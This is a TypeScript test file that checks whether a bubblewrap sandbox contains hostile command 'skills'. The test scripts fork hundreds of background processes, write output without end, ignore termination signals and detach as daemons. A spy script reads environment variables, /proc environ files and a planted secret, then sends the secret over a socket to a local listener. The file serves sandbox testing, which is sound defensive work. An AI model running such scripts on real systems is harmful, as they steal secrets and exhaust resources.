import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer } from 'node:net'
import { homedir, tmpdir } from 'node:os'
import { delimiter, join, relative } from 'node:path'
import { describe, expect, it, onTestFinished } from 'vitest'
import type { Containment } from '../../../src/adapters/performers/command/containment.ts'
import { rememberContainment } from '../../../src/adapters/performers/command/containment.ts'
import { createCommand } from '../../../src/adapters/performers/command.ts'
import type { JsonObject } from '../../../src/core/basics/json.ts'
import { aFolder, anAssignment, aSkill, memoryBlobs, NEVER_ABORTED } from '../../support/performers.ts'
import { PATH_WITH_NODE } from '../../support/scripted-program.ts'

const ENVIRONMENT = { PATH: PATH_WITH_NODE, LANG: 'C.UTF-8', TZ: 'UTC', DATABASE_PASSWORD: 'sesame' }
const HERE = await rememberContainment(ENVIRONMENT)()
const WALLED = HERE.walls.type === 'bubblewrap'
if (!WALLED) console.info(`Skipped behind walls: bubblewrap is ${HERE.walls.type === 'none' ? HERE.walls.reason : ''}.`)

const WITHOUT_WALLS: Containment = { ...HERE, walls: { type: 'none', reason: 'not-found' } }
/** What a spy gets. `ours`: the environment of this process. */
const NOTHING = {
  outputs: (ours: string) => ({
    parent: expect.not.stringContaining(ours),
    secret: 'ENOENT',
    home: [],
    written: 'ENOENT',
    sent: 'ECONNREFUSED',
  }),
  heard: [],
  files: ['secret'],
}
const MUCH = {
  outputs: (ours: string) => ({
    parent: ours,
    secret: 'private',
    home: expect.any(Array),
    written: 'written',
    sent: 'sent',
  }),
  heard: ['private'],
  files: ['planted', 'secret'],
}
const PLACES = [
  { place: 'behind walls', containment: HERE, isHere: WALLED, got: NOTHING },
  { place: 'without walls', containment: WITHOUT_WALLS, isHere: true, got: MUCH },
]

interface Setting {
  readonly containment: Containment
  readonly inputs?: JsonObject
  /** The attempt is stopped as soon as this process is there. */
  readonly stopAt?: string
}

/** Lets a skill do its worst, and tells what came of it and what its folder holds afterwards. */
async function suffer(lines: readonly string[], { containment, inputs = {}, stopAt }: Setting) {
  const blobs = memoryBlobs()
  const scratch = await aFolder()
  const files = { 'run.sh': ['#!/bin/sh', ...lines, ''].join('\n') }
  const performer = await aSkill(blobs, { type: 'command', argv: ['./run.sh'], env: [] }, files)
  const command = createCommand({ blobs, scratch, environment: ENVIRONMENT, containment: async () => containment })
  const stop = new AbortController()
  const attempt = command.perform(
    anAssignment({ performer, inputs }),
    stopAt === undefined ? NEVER_ABORTED : stop.signal,
  )
  if (stopAt !== undefined) await expect.poll(commandLines, { timeout: 10_000 }).toContain(stopAt)
  stop.abort()
  return { result: await attempt, left: await readdir(scratch) }
}

describe.each(PLACES)('a hostile skill $place', ({ containment, isHere, got }) => {
  it.runIf(isHere)('[CT6] that forks five hundred times leaves nothing', async () => {
    const bomb = ['i=0', 'while [ $i -lt 500 ]; do sleep 7401 & i=$((i+1)); done', 'exec sleep 7402']
    const { result, left } = await suffer(bomb, { containment, stopAt: 'sleep 7402' })
    expect(result).toMatchObject({ error: { code: 'interrupted', reach: 'unknown' } })
    expect(await commandLines()).not.toContain('sleep 7401')
    expect(left).toEqual([])
  })

  it.runIf(isHere)('[CT6] that writes without end leaves nothing', async () => {
    const { result, left } = await suffer(['sleep 7403 & yes'], { containment })
    expect(result).toMatchObject({ error: { code: 'output-too-large', reach: 'unknown' } })
    expect(await commandLines()).not.toContain('sleep 7403')
    expect(left).toEqual([])
  })

  it.runIf(isHere)('[CT6] that ignores the wish to end leaves nothing', async () => {
    const stubborn = ["trap '' TERM", 'sleep 7404 &', 'while :; do sleep 0.05; done']
    const { result, left } = await suffer(stubborn, { containment, stopAt: 'sleep 7404' })
    expect(result).toMatchObject({ error: { code: 'interrupted', reach: 'unknown' } })
    expect(await commandLines()).not.toContain('sleep 7404')
    expect(left).toEqual([])
  })

  it.runIf(isHere)('[CT6] that detaches itself leaves nothing', async () => {
    const daemon = "setsid sh -c '(touch away; exec sleep 7405) &' >/dev/null 2>&1 </dev/null &"
    const lines = [daemon, 'until [ -e away ]; do :; done', 'echo \'{"outputs":{}}\'']
    const { result, left } = await suffer(lines, { containment })
    expect(result).toMatchObject({ type: 'answered' })
    expect(await commandLines()).not.toContain('sleep 7405')
    expect(left).toEqual([])
  })

  it.runIf(isHere)('[CT7] that looks for secrets and sends them', { timeout: 20_000 }, async () => {
    const [home, server] = [await aHomeWithSecret(), await aListener()]
    const programs = (process.env['PATH'] ?? '')
      .split(delimiter)
      .map((folder) => relative(homedir(), folder).split('/')[0] ?? '')
    const inputs = { home, port: server.port, real: homedir(), programs }
    const ours = await readFile(`/proc/${process.pid}/environ`, 'utf8')
    const { result } = await suffer([`exec "${process.execPath}" -e '${SPY}'`], { containment, inputs })
    const seen = result.type === 'answered' ? result.answer.outputs : result
    expect(seen).toEqual({ environment: expect.not.stringContaining('sesame'), ...got.outputs(ours) })
    expect(server.heard).toEqual(got.heard)
    expect(await readdir(home)).toEqual(got.files)
  })
})

/** Reads what it can, and tells what it got. It stands in single quotes. */
const SPY = `
const fs = require("node:fs")
const { home, port, real, programs } = JSON.parse(fs.readFileSync(0, "utf8")).inputs
const attempt = (act) => { try { return act() } catch (error) { return error.code } }
const outputs = {
  environment: JSON.stringify(process.env),
  parent: attempt(() => fs.readFileSync("/proc/" + process.ppid + "/environ", "utf8")),
  secret: attempt(() => fs.readFileSync(home + "/secret", "utf8")),
  home: fs.existsSync(real) ? fs.readdirSync(real).filter((name) => !programs.includes(name)) : [],
  written: attempt(() => { fs.writeFileSync(home + "/planted", "x"); return "written" }),
}
const tell = (sent) => console.log(JSON.stringify({ outputs: { ...outputs, sent } }))
const socket = require("node:net").connect(port, "127.0.0.1", () => socket.end(outputs.secret))
socket.on("close", (hadError) => hadError || tell("sent")).on("error", (error) => tell(error.code)).resume()
`

async function aHomeWithSecret(): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'workcharts-home-'))
  onTestFinished(() => rm(folder, { recursive: true, force: true }))
  await writeFile(join(folder, 'secret'), 'private')
  return folder
}

/** A server that writes down what it is told. */
async function aListener() {
  const heard: string[] = []
  const server = createServer((socket) => {
    socket.on('data', (bytes) => heard.push(bytes.toString('utf8'))).on('end', () => socket.end())
  })
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve)
  })
  onTestFinished(() => void server.close())
  const address = server.address()
  return { heard, port: typeof address === 'object' && address !== null ? address.port : 0 }
}

async function commandLines(): Promise<readonly string[]> {
  const pids = (await readdir('/proc')).filter((name) => /^\d+$/.test(name))
  const lines = pids.map((pid) => readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => ''))
  return (await Promise.all(lines)).map((line) => line.split('\0').filter(Boolean).join(' '))
}
